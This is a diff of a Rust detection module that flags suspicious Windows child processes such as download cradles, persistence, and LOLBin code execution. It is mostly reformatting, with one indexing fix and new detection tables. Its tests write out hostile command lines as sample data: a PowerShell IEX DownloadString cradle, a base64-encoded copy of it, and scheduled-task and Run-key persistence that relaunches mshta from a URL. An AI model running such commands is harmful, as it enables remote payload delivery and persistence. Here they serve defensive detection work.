@@ -557,7 +557,7 @@ fn remote_in(cmd: &str) -> Option<Remote> {
                     let slashes = host_at - body_at;
                     let local = host.is_empty()
                         || LOCAL_HOSTS.contains(&host.as_str())
-                        || (host.len() == 1 && cmd[host_at..].as_bytes().get(1) == Some(&b':'))
+                        || (host.len() == 1 && cmd.as_bytes().get(host_at + 1) == Some(&b':'))
                         || slashes == 3;
                     if local {
                         continue;
@@ -985,12 +985,15 @@ pub(crate) fn child_does(image: &str, command_line: &str) -> ChildDoes {
         }
     }
     let has_url = ["http://", "https://", "ftp://", "http:\\\\", "https:\\\\"].iter().any(|s| cmd.contains(s));
-    let downloads = DOWNLOAD_TOKENS.iter().any(|t| cmd.contains(t)) || (DOWNLOADERS.contains(&name.as_ref()) && has_url);
+    let downloads =
+        DOWNLOAD_TOKENS.iter().any(|t| cmd.contains(t)) || (DOWNLOADERS.contains(&name.as_ref()) && has_url);
     let persists = persistence(&name, &cmd);
     let relaunches_mshta = persists.is_some() && cmd.contains("mshta");
-    let non_library = LIBRARY_LOADERS.contains(&name.as_ref()).then(|| loaded_library(raw)).flatten().filter(|p| {
-        extension(p).is_some_and(|e| !LIBRARY_EXTENSIONS.contains(&e.as_str()))
-    });
+    let non_library = LIBRARY_LOADERS
+        .contains(&name.as_ref())
+        .then(|| loaded_library(raw))
+        .flatten()
+        .filter(|p| extension(p).is_some_and(|e| !LIBRARY_EXTENSIONS.contains(&e.as_str())));
     let script_host = is_powershell(&name) || SCRIPT_HOSTS.contains(&name.as_ref());
     let user_folder = mentions_user_folder(&cmd);
     let runs_code = if CODE_RUNNERS.contains(&name.as_ref()) {
@@ -1010,7 +1013,8 @@ pub(crate) fn child_does(image: &str, command_line: &str) -> ChildDoes {
 }
 
 /// Environment variables and folders that point into user-writable places.
-const USER_FOLDER_VARS: &[&str] = &["%appdata%", "%localappdata%", "%public%", "%programdata%", "%userprofile%", "%tmp%"];
+const USER_FOLDER_VARS: &[&str] =
+    &["%appdata%", "%localappdata%", "%public%", "%programdata%", "%userprofile%", "%tmp%"];
 
 fn mentions_user_folder(cmd: &str) -> bool {
     user_writable_dir(cmd).is_some() || USER_FOLDER_VARS.iter().any(|v| cmd.contains(v))
@@ -1019,7 +1023,8 @@ fn mentions_user_folder(cmd: &str) -> bool {
 /// Whether a script host's command line names a script file to run.
 fn names_file(cmd: &str) -> bool {
     cmd.split(|c: char| c.is_whitespace() || c == '"').skip(1).any(|t| {
-        extension(t).is_some_and(|e| SCRIPT_EXTENSIONS.contains(&e.as_str()) || EXECUTABLE_EXTENSIONS.contains(&e.as_str()))
+        extension(t)
+            .is_some_and(|e| SCRIPT_EXTENSIONS.contains(&e.as_str()) || EXECUTABLE_EXTENSIONS.contains(&e.as_str()))
     })
 }
 
@@ -1034,7 +1039,9 @@ fn persistence(name: &str, cmd: &str) -> Option<&'static str> {
     }
     if is_powershell(name) || name == "cmd.exe" {
         for &(token, kind) in POWERSHELL_PERSISTENCE_TOKENS {
-            if cmd.contains(token) && (token != "\\currentversion\\run" || cmd.contains("itemproperty") || cmd.contains("reg add")) {
+            if cmd.contains(token)
+                && (token != "\\currentversion\\run" || cmd.contains("itemproperty") || cmd.contains("reg add"))
+            {
                 return Some(kind);
             }
         }
@@ -1250,6 +1257,23 @@ pub(crate) fn tables() -> Vec<(&'static str, &'static str, Vec<&'static str>)> {
         ),
         ("WebDAV markers", "`cmdline_remote_target`, as do UNC paths", list(WEBDAV_MARKERS)),
         ("COM server flags", "`cmdline_embedding`, `parent_dcom`, `dcom_inbound`", list(EMBEDDING_FLAGS)),
+        ("Explorer as a COM server (parent command line)", "`parent_explorer_com`", list(EXPLORER_COM_FLAGS)),
+        ("Browser caches", "`hta_from_browser_cache`, `remote_content_cached` (not `\\content.outlook\\`)", list(BROWSER_CACHE_DIRS)),
+        ("Elevation", "`cmdline_elevation`; triage shows the target", vec![SHELL_EXECUTE, RUNAS_VERB]),
+        ("File picker: all of", "`cmdline_file_picker`", list(FILE_PICKER_MARKERS)),
+        ("File picker: none of", "`cmdline_file_picker`", list(FILE_PICKER_EXCLUDED)),
+        ("Download tokens (descendants; encoded PowerShell decoded)", "`child_downloads`", list(DOWNLOAD_TOKENS)),
+        ("Downloaders given a URL", "`child_downloads`", list(DOWNLOADERS)),
+        ("Execution proxies that always run code", "`child_runs_code`", list(CODE_RUNNERS)),
+        ("Inline-code tokens (script hosts)", "`child_runs_code`", list(INLINE_CODE_TOKENS)),
+        ("Library loaders", "`child_loads_non_library`, `child_runs_code`", list(LIBRARY_LOADERS)),
+        ("Library extensions", "`child_loads_non_library`, for any other", list(LIBRARY_EXTENSIONS)),
+        (
+            "Persistence commands",
+            "`child_persists`, `persistence_relaunches_mshta`",
+            PERSISTENCE_COMMANDS.iter().map(|&(b, _, _)| b).collect(),
+        ),
+        ("Persistence in PowerShell", "`child_persists`", names(POWERSHELL_PERSISTENCE_TOKENS)),
     ]
 }
 
@@ -1344,7 +1368,10 @@ mod tests {
         assert!(
             in_user_writable_tree("C:\\Users\\bob\\Desktop\\x.exe") && !in_user_writable_tree("C:\\Windows\\x.exe")
         );
-        assert_eq!(archive_temp_dir_entry("c:\\users\\a\\appdata\\local\\temp\\7zo1234\\a.hta").map(|e| e.1), Some("7-Zip"));
+        assert_eq!(
+            archive_temp_dir_entry("c:\\users\\a\\appdata\\local\\temp\\7zo1234\\a.hta").map(|e| e.1),
+            Some("7-Zip")
+        );
         assert!(
             outside_system_dirs("C:\\Users\\a\\mshta.exe") && !outside_system_dirs("C:\\Windows\\SysWOW64\\mshta.exe")
         );
@@ -1455,7 +1482,10 @@ mod tests {
         for h in ["evil.example", "1e100.net", "256.1.1.1", "0x", "1.2.3.4.5", "08.1.1.1", "", "ws01", "4294967296"] {
             assert_eq!(v4(h), None, "{h}");
         }
-        assert_eq!(host("mshta \\\\0x0a000005\\share\\a.hta").as_deref().and_then(host_ip).map(|i| i.to_string()), Some("10.0.0.5".into()));
+        assert_eq!(
+            host("mshta \\\\0x0a000005\\share\\a.hta").as_deref().and_then(host_ip).map(|i| i.to_string()),
+            Some("10.0.0.5".into())
+        );
     }
 
     #[test]
@@ -1467,7 +1497,10 @@ mod tests {
     /// Issue 16, item 8: the path the allowlist sees is the HTA run, resolved.
     #[test]
     fn first_argument_and_resolved_paths() {
-        assert_eq!(first_argument("\"C:\\Windows\\mshta.exe\" \"C:\\Apps\\a b.hta\" x").map(|a| a.0), Some("C:\\Apps\\a b.hta"));
+        assert_eq!(
+            first_argument("\"C:\\Windows\\mshta.exe\" \"C:\\Apps\\a b.hta\" x").map(|a| a.0),
+            Some("C:\\Apps\\a b.hta")
+        );
         assert_eq!(first_argument("mshta.exe https://x/a.hta C:\\Apps\\ok.hta").map(|a| a.0), Some("https://x/a.hta"));
         let cmd = "mshta  C:\\a.hta";
         let (arg, at) = first_argument(cmd).unwrap();
@@ -1506,7 +1539,10 @@ mod tests {
     #[test]
     fn what_children_do() {
         let d = |img: &str, cmd: &str| child_does(img, cmd);
-        assert!(d("powershell.exe", "powershell -nop -c IEX (New-Object Net.WebClient).DownloadString('https://x/a')").downloads);
+        assert!(
+            d("powershell.exe", "powershell -nop -c IEX (New-Object Net.WebClient).DownloadString('https://x/a')")
+                .downloads
+        );
         // `IEX (New-Object Net.WebClient).DownloadString('http://x/a')`, UTF-16LE base64.
         let enc = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAvAGEAJwApAA==";
         let p = d("powershell.exe", &format!("powershell.exe -w hidden -enc {enc}"));
@@ -1526,12 +1562,16 @@ mod tests {
         let jpg = d("rundll32.exe", r"rundll32.exe C:\Users\Public\photo.jpg,DllRegisterServer");
         assert_eq!(jpg.non_library.as_deref(), Some(r"C:\Users\Public\photo.jpg"));
         assert!(jpg.runs_code);
-        assert_eq!(d("regsvr32.exe", r"regsvr32 /s C:\ProgramData\a.png").non_library.as_deref(), Some(r"C:\ProgramData\a.png"));
+        assert_eq!(
+            d("regsvr32.exe", r"regsvr32 /s C:\ProgramData\a.png").non_library.as_deref(),
+            Some(r"C:\ProgramData\a.png")
+        );
         assert_eq!(d("rundll32.exe", "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication\"").non_library, None);
         assert_eq!(d("rundll32.exe", "rundll32 shell32.dll,Control_RunDLL desk.cpl").non_library, None);
         let task = d("schtasks.exe", r#"schtasks /create /tn Update /sc minute /tr "mshta.exe https://x/a.hta""#);
         assert_eq!((task.persists, task.relaunches_mshta), (Some("scheduled task"), true));
-        let run = d("reg.exe", r#"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v u /d "mshta vbscript:x" /f"#);
+        let run =
+            d("reg.exe", r#"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v u /d "mshta vbscript:x" /f"#);
         assert_eq!((run.persists, run.relaunches_mshta), (Some("Run key"), true));
         assert_eq!(d("reg.exe", r"reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Run").persists, None);
         assert_eq!(d("schtasks.exe", "schtasks /query").persists, None);
